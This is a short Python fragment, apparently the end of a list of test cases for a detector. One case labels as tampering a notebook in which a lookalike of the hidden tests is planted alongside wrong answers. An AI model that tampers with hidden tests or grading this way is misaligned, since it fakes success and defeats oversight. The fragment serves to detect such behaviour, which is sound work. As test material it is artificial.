    Hostile("hidden_tests_lookalike", _nb(solved=("sigmoid",), answers=WRONG, edit=_lookalike),
            honest("sigmoid"), TAMPERING),
]
